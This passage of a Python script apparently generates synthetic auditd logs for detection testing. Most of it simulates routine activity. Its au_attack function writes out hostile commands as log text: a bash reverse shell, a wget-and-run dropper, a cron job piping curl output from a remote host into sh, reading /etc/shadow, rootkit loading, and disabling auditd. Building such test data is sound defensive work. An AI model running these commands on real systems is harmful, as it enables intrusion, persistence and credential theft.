    A.service("SERVICE_STOP", unit)


def au_postgres(A):
    seg = f"0000000100000{R.randint(10, 99)}000000{hexs(2).upper()}"
    sh = newpid()
    A.execve(sh, 1320, "/usr/bin/dash", ["sh", "-c", f"test ! -f /srv/wal_archive/{seg} && cp pg_wal/{seg} /srv/wal_archive/{seg}"],
             "/var/lib/postgresql/15/main", uid=113, comm="sh")
    A.execve(newpid(), sh, "/usr/bin/cp", ["cp", f"pg_wal/{seg}", f"/srv/wal_archive/{seg}"], "/var/lib/postgresql/15/main", uid=113)


def au_chrony(A):
    A.syscall(655, 1, "/usr/sbin/chronyd", 159, "adjtimex", "time-change", uid=0, proctitle=["/usr/sbin/chronyd", "-F", "1"],
              a0=f"{R.randint(0x7ff000000000, 0x7fffffffffff):x}")


def au_admin(A):
    u = R.choice(STAFF[:6])
    uid = UIDS[u]
    ip = R.choice(INTERNAL)
    A.ses += 1
    spid = newpid()
    A.user("USER_AUTH", spid, 0, UNSET, UNSET, f'op=pubkey_auth grantors=auth-key acct="{u}" exe="/usr/sbin/sshd" '
           f"hostname=? addr={ip} terminal=ssh res=success")
    A.pam("USER_ACCT", "accounting", spid, UNSET, UNSET, u, "/usr/sbin/sshd", "pam_permit", "ssh", ip)
    A.pam("CRED_ACQ", "setcred", spid, UNSET, UNSET, u, "/usr/sbin/sshd", "pam_permit", "ssh", ip)
    A.login(spid, uid, A.ses)
    A.pam("USER_START", "session_open", spid, uid, A.ses, u, "/usr/sbin/sshd",
          "pam_loginuid,pam_keyinit,pam_env,pam_env,pam_permit,pam_unix,pam_limits", "ssh", ip)
    A.user("USER_LOGIN", spid, 0, uid, A.ses, f'op=login id={uid} exe="/usr/sbin/sshd" hostname=? addr={ip} '
           f"terminal=/dev/pts/{R.randint(0, 5)} res=success")
    bash = newpid()
    tty = f"pts{R.randint(0, 5)}"
    A.execve(bash, spid, "/usr/bin/bash", ["-bash"], f"/home/{u}", uid=uid, auid=uid, ses=A.ses, tty=tty)
    for _ in range(R.randint(2, 9)):
        argv = R.choice(ADMIN_CMDS)
        if R.random() < 0.3:
            argv = ["sudo"] + argv
            A.user("USER_CMD", newpid(), uid, uid, A.ses, f'cwd="/home/{u}" cmd={au_arg(" ".join(argv[1:]))} '
                   f'exe="/usr/bin/sudo" terminal={tty.replace("pts", "pts/")} res=success')
        A.execve(newpid(), bash, BINDIR[argv[0]] + "/" + argv[0], argv, f"/home/{u}", uid=0 if argv[0] == "sudo" else uid,
                 auid=uid, ses=A.ses, tty=tty)
    A.pam("USER_END", "session_close", spid, uid, A.ses, u, "/usr/sbin/sshd",
          "pam_loginuid,pam_keyinit,pam_env,pam_env,pam_permit,pam_unix,pam_limits", "ssh", ip)


def au_attack(A, stats):
    """One attack step by a web shell (www-data) or a stolen admin account turned root."""
    ip = pub_ip()
    k = R.randrange(10)
    stats[["useradd", "insmod", "revshell", "suid", "shadow", "dropper", "ssh_guess", "history", "cron", "auditctl"][k]] += 1
    web = R.random() < 0.5
    uid, auid, ses = (33, UNSET, UNSET) if web else (0, UIDS["lpetit"], A.ses)
    par = 801 if web else newpid()
    cwd = "/var/www/portal" if web else "/tmp"
    if k == 0:
        n = f"svc{hexs(3)}"
        A.execve(newpid(), par, "/usr/sbin/useradd", ["useradd", "-m", "-s", "/bin/bash", n], cwd, uid=0, auid=auid, ses=ses)
        A.user("ADD_USER", newpid(), 0, auid, ses, f'op=add-user acct="{n}" exe="/usr/sbin/useradd" hostname={HOST} addr=? '
               f"terminal=pts/1 res=success")
    elif k == 1:
        A.execve(newpid(), par, "/usr/bin/kmod", ["insmod", f"/tmp/.{hexs(4)}/rk.ko"], cwd, uid=0, auid=auid, ses=ses, comm="insmod")
        A.syscall(newpid(), par, "/usr/bin/kmod", 313, "finit_module", "modules", auid=auid, ses=ses,
                  proctitle=["insmod", "/tmp/rk.ko"], a0="3")
    elif k == 2:
        sh = newpid()
        A.execve(sh, par, "/usr/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/{ip}/4444 0>&1"], cwd, uid=uid, auid=auid, ses=ses)
        A.execve(newpid(), sh, "/usr/bin/whoami", ["whoami"], cwd, uid=uid, auid=auid, ses=ses)
    elif k == 3:
        A.execve(newpid(), par, "/usr/bin/chmod", ["chmod", "u+s", "/tmp/.x/bash"], cwd, uid=0, auid=auid, ses=ses)
    elif k == 4:
        p = newpid()
        A.execve(p, par, "/usr/bin/cat", ["cat", "/etc/shadow"], cwd, uid=0, auid=auid, ses=ses)
        A.syscall(p, par, "/usr/bin/cat", 257, "openat", "shadow", auid=auid, ses=ses, path="/etc/shadow",
                  proctitle=["cat", "/etc/shadow"], a0="ffffff9c")
    elif k == 5:
        f = f"/tmp/.{hexs(6)}"
        A.execve(newpid(), par, "/usr/bin/wget", ["wget", "-q", f"http://{ip}/x86_64", "-O", f], cwd, uid=uid, auid=auid, ses=ses)
        A.execve(newpid(), par, "/usr/bin/chmod", ["chmod", "+x", f], cwd, uid=uid, auid=auid, ses=ses)
        A.execve(newpid(), par, f, [f], cwd, uid=uid, auid=auid, ses=ses)
    elif k == 6:
        u = R.choice(BAD_USERS)
        p = newpid()
        A.user("USER_AUTH", p, 0, UNSET, UNSET, f'op=PAM:authentication grantors=? acct="{u}" exe="/usr/sbin/sshd" '
               f"hostname={ip} addr={ip} terminal=ssh res=failed")
        A.user("USER_LOGIN", p, 0, UNSET, UNSET, f'op=login acct="{u}" exe="/usr/sbin/sshd" hostname=? addr={ip} '
               f"terminal=sshd res=failed")
    elif k == 7:
        A.execve(newpid(), par, "/usr/bin/bash", ["bash", "-c", "history -c; rm -f ~/.bash_history; unset HISTFILE"], cwd,
                 uid=uid, auid=auid, ses=ses)
    elif k == 8:
        A.execve(newpid(), par, "/usr/bin/bash", ["bash", "-c", f"(crontab -l; echo '* * * * * curl -s http://{ip}/s | sh') | crontab -"],
                 cwd, uid=uid, auid=auid, ses=ses)
    else:
        A.execve(newpid(), par, "/usr/sbin/auditctl", ["auditctl", "-D"], cwd, uid=0, auid=auid, ses=ses)
        A.service("SERVICE_STOP", "auditd")


def gen_audit(f, n):
    stats = {k: 0 for k in ("useradd", "insmod", "revshell", "suid", "shadow", "dropper", "ssh_guess", "history", "cron",
                            "auditctl")}
    A = Audit(rate=0.55)  # 200k lines (about 45k events) span a day
    written = 0
    nbytes = 0
    while written < n:
        r = R.random()
        if r < 0.36:
            au_monitoring(A)
        elif r < 0.52:
            au_cron(A)
        elif r < 0.60:
            au_service(A)
        elif r < 0.74:
            au_postgres(A)
        elif r < 0.92:
            au_chrony(A)
        elif r < 0.997:
            if R.random() < 0.25:
                au_admin(A)
            else:
                au_monitoring(A)
        else:
            au_attack(A, stats)
        take = A.lines[: n - written]
        chunk = "".join(line + "\n" for line in take)
        f.write(chunk)
        nbytes += len(chunk.encode())
        written += len(take)
        A.lines.clear()
    return dict(stats, lines=written, bytes=nbytes)


GENERATORS = {"syslog": lambda f, n: gen_syslog(f, n), "access": lambda f, n: gen_access(f, n),
              "auth": lambda f, n: gen_auth(f, n), "audit": lambda f, n: gen_audit(f, n)}
with open(a.out, "w", encoding="utf-8", newline="\n") as fh:
    summary = GENERATORS[a.kind](fh, a.lines)
summary.update(kind=a.kind, seed=a.seed)
print(json.dumps(summary))
